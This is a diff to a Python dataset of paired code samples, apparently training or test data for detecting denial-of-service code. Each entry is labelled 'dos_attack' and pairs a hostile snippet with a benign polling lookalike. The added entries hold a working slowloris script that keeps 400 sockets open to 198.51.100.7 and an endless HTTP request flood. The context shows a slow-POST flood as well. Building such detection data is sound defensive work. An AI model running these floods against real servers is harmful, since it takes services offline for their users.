@@ -258,6 +258,24 @@ PAIRS = [
      "        c.send(('X-r: %d\\r\\n' % random.randint(1, 9)).encode())\n    time.sleep(12)",
      "import socket\nc = socket.create_connection(('example.org', 80))\n"
      "c.send(b'GET / HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n')\nprint(c.recv(1000))"),
+    ("flood: slowloris whose trickle comes from a generator that sleeps between its yields; one that reads replies",
+     "dos_attack",
+     "import socket, time, random\nclass Drip:\n    def __init__(self, n=400):\n"
+     "        self.socks = []\n        for _ in range(n):\n            self.socks.append(self.open())\n"
+     "    def open(self):\n"
+     "        s = socket.create_connection(('198.51.100.7', 80))\n        s.send(b'Host: 198.51.100.7\\r\\n')\n"
+     "        return s\n    def ticks(self):\n        while True:\n"
+     "            yield 'X-a: %d\\r\\n' % random.randint(1, 5000)\n            time.sleep(10)\n"
+     "    def run(self):\n        for line in self.ticks():\n            for s in self.socks:\n"
+     "                s.send(line.encode())\nDrip().run()",
+     "import socket, time\nclass Poll:\n    def ticks(self):\n        while True:\n            yield 'ping'\n"
+     "            time.sleep(10)\n    def run(self):\n        s = socket.create_connection(('example.org', 80))\n"
+     "        for line in self.ticks():\n            s.send(line.encode())\n            print(s.recv(100))\nPoll().run()"),
+    ("flood: requests driven by a generator that yields forever; the same generator pausing a minute", "dos_attack",
+     "import requests\ndef ticks():\n    while True:\n        yield 1\nfor _ in ticks():\n"
+     "    requests.get('https://198.51.100.7/')",
+     "import requests, time\ndef ticks():\n    while True:\n        yield 1\n        time.sleep(60)\n"
+     "for _ in ticks():\n    requests.get('https://example.org/health')"),
     ("flood: slow POST, the request kept in a variable", "dos_attack",
      "import socket, threading, time\nbody = ('POST /login HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 100000000\\r\\n\\r\\n' % host)\n"
      "held = []\ndef open_many():\n    for i in range(200):\n        s = socket.socket()\n        s.connect((host, 80))\n"
